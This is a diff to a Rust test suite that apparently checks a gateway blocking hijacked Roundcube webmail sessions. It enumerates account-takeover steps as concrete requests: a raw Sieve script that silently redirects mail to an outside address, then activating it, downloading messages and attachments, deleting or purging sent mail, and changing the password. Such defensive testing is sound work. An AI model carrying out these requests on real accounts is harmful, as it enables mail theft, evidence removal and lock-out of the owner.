@@ -33,9 +33,19 @@ enum Move {
     Forward,
     OutOfOffice,
     Password,
+    /// A whole script, into a set of its own.
+    Script,
+    /// That set, put in force.
+    SetInForce,
     Contacts,
     AllMessages,
+    OneMessage,
+    Attachments,
     SentMail,
+    /// The same by way of a search through all folders.
+    SentMailThatWasFound,
+    SentMailToTrash,
+    SentFolder,
 }
 
 /// Whom mail goes to by a move.
@@ -46,20 +56,38 @@ enum Leads {
 }
 
 impl Move {
-    const ALL: [Self; 8] = [
+    const ALL: [Self; 15] = [
         Self::Identity,
         Self::Filter,
         Self::Forward,
         Self::OutOfOffice,
+        Self::Script,
+        Self::SetInForce,
         Self::Contacts,
         Self::AllMessages,
+        Self::OneMessage,
+        Self::Attachments,
+        Self::SentMailThatWasFound,
+        Self::SentMailToTrash,
         Self::SentMail,
+        Self::SentFolder,
         // Afterwards the mail server knows the session's password no more.
         Self::Password,
     ];
 
     /// Those that are about where mail goes.
-    const AIMED: [Self; 4] = [Self::Identity, Self::Filter, Self::Forward, Self::OutOfOffice];
+    const AIMED: [Self; 5] = [Self::Identity, Self::Filter, Self::Forward, Self::OutOfOffice, Self::Script];
+
+    /// Those that are not made without a proof; the others only make the next dearer.
+    const PROVED: [Self; 7] = [
+        Self::Identity,
+        Self::Filter,
+        Self::Forward,
+        Self::OutOfOffice,
+        Self::Script,
+        Self::SetInForce,
+        Self::Password,
+    ];
 
     /// Asks Roundcube for it, as its own pages do.
     async fn make(self, at: &mut Roundcube, who: &Person, leads: Leads) -> Answer {
@@ -125,6 +153,24 @@ impl Move {
                 ];
                 at.ajax_post("/?_task=settings&_action=plugin.managesieve-vacation", &fields).await
             }
+            Self::Script => {
+                at.http.get("/?_task=settings&_action=plugin.managesieve").await;
+                let script = format!("require [\"copy\"];\r\nredirect :copy \"{out}\";\r\n");
+                let fields = [
+                    ("_token", token.as_str()),
+                    ("_task", "settings"),
+                    ("_action", "plugin.managesieve-saveraw"),
+                    ("_set", "raw"),
+                    ("_seteditraw", "1"),
+                    ("_framed", "1"),
+                    ("rawsetcontent", &script),
+                ];
+                framed(at, &fields).await
+            }
+            Self::SetInForce => {
+                let fields = [("_act", "setact"), ("_set", "raw")];
+                at.ajax_post("/?_task=settings&_action=plugin.managesieve-action", &fields).await
+            }
             Self::Password => {
                 let password = who.password.clone();
                 let fields = [
@@ -142,10 +188,27 @@ impl Move {
                 let fields = [("_token", token.as_str()), ("_uid", "*"), ("_mbox", "Sent"), ("_mode", "mbox")];
                 at.http.post("/?_task=mail&_action=plugin.zipdownload.messages", &fields).await
             }
+            Self::OneMessage => {
+                let source = "/?_task=mail&_action=viewsource&_uid=1&_mbox=Sent&_save=1&_token=";
+                at.http.get(&format!("{source}{token}")).await
+            }
+            Self::Attachments => {
+                let zip = "/?_task=mail&_action=plugin.zipdownload.attachments&_uid=1&_mbox=Sent&_token=";
+                at.http.get(&format!("{zip}{token}")).await
+            }
             Self::SentMail => {
                 let fields = [("_uid", "1"), ("_mbox", "Sent")];
                 at.ajax_post("/?_task=mail&_action=delete", &fields).await
             }
+            Self::SentMailThatWasFound => {
+                let fields = [("_uid[]", "1-Sent"), ("_mbox", "INBOX"), ("_search", "x")];
+                at.ajax_post("/?_task=mail&_action=delete", &fields).await
+            }
+            Self::SentMailToTrash => {
+                let fields = [("_uid", "1"), ("_mbox", "Sent"), ("_target_mbox", "Trash")];
+                at.ajax_post("/?_task=mail&_action=move", &fields).await
+            }
+            Self::SentFolder => at.ajax_post("/?_task=settings&_action=folder-purge", &[("_mbox", "Sent")]).await,
         }
     }
 
@@ -158,12 +221,14 @@ impl Move {
             Self::Identity | Self::Forward | Self::OutOfOffice => {
                 text.contains("\"confirmation\"") || text.contains("\\\"confirmation\\\"")
             }
-            Self::Filter => text.contains("managesieve_updatelist("),
+            Self::Filter | Self::Script | Self::SetInForce => text.contains("managesieve_updatelist("),
             Self::Password => text.contains("Successfully saved."),
-            Self::Contacts | Self::AllMessages => attached,
-            Self::SentMail => {
+            Self::Contacts | Self::AllMessages | Self::OneMessage | Self::Attachments => attached,
+            Self::SentMail | Self::SentMailThatWasFound | Self::SentMailToTrash | Self::SentFolder => {
                 answer.status == StatusCode::OK
-                    && text.contains("\"action\":\"delete\"")
+                    && ["delete", "move", "folder-purge"]
+                        .iter()
+                        .any(|of| text.contains(&format!("\"action\":\"{of}\"")))
                     && !text.contains("Reference code")
             }
         }
@@ -175,8 +240,15 @@ impl Move {
             Self::Identity => "dean@elsewhere.example",
             Self::Filter | Self::Forward => "out@elsewhere.example",
             Self::OutOfOffice => "boss@elsewhere.example",
-            Self::AllMessages | Self::SentMail => "folder Sent",
-            Self::Password | Self::Contacts => "",
+            Self::Script => "out@elsewhere.example",
+            Self::AllMessages
+            | Self::OneMessage
+            | Self::Attachments
+            | Self::SentMail
+            | Self::SentMailThatWasFound
+            | Self::SentMailToTrash
+            | Self::SentFolder => "folder Sent",
+            Self::Password | Self::Contacts | Self::SetInForce => "",
         }
     }
 }
@@ -277,8 +349,7 @@ async fn a_watched_session_is_held_back_from_what_lets_mail_out_or_the_owner_in_
     let stack = Stack::shared();
     let gateway = gateway(stack, IS_WATCHED).await;
     for made in Move::ALL {
-        let is_proved =
-            matches!(made, Move::Identity | Move::Filter | Move::Forward | Move::OutOfOffice | Move::Password);
+        let is_proved = Move::PROVED.contains(&made);
         let victim = somebody(stack, &gateway).await;
         let mut thief = abroad(&gateway, &victim).await;
         if made == Move::ALL[0] {
